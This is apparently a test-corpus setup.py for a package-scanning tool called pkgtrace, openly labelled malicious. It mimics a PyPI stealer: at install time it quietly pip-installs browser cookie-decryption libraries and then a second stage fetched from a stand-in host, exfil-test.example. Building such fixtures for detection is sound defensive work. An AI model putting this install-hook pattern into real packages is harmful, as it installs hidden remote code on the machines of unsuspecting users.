# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# A technique of many PyPI stealers (2022-2024, public write-ups): setup.py
# installs what its stealer needs at install time, out of sight of the
# package's declared dependencies and of any lock file:
#
# 1. `python -m pip install pycryptodome browser-cookie3` (the libraries
#    stealers use to decrypt browser cookie and password stores), from the
#    registry;
# 2. `pip install https://files.exfil-test.example/stage2-1.0.tar.gz`, a
#    second stage from a server of its own.
#
# The first time setup.py runs in an install (pip runs it more than once: a
# file in /tmp says it already ran). Each step writes `mal-pip-deps: step N
# ...` to /tmp/mal-pip-deps.log (pip hides setup.py's output), and the last
# writes /tmp/mal-pip-deps.done. Each pip gets 20 s; no error stops the
# install.
import os
import subprocess
import sys

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-pip-deps.ran"
LOG, DONE = "/tmp/mal-pip-deps.log", "/tmp/mal-pip-deps.done"


def say(msg):
    with open(LOG, "a") as f:
        f.write(f"mal-pip-deps: {msg}\n")


def pip(step, *args):
    cmd = [sys.executable, "-m", "pip", "install", "--quiet", "--retries", "0", "--timeout", "5", *args]
    try:
        r = subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
        say(f"step {step} pip install {' '.join(args)}: exit {r.returncode}")
    except Exception as e:
        say(f"step {step} pip install {' '.join(args)} failed: {e!r}")


def pull():
    if os.path.exists(ONCE):
        return
    open(ONCE, "w").close()
    pip(1, "pycryptodome", "browser-cookie3")
    pip(2, "https://files.exfil-test.example/stage2-1.0.tar.gz")
    open(DONE, "w").close()


try:
    pull()
except Exception:
    pass

setup(
    name="pkgtrace-test-mal-pip-deps",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py pip-installs a stealer's libraries and a second stage from a URL",
    packages=["pkgtrace_mal_pip_deps"],
)
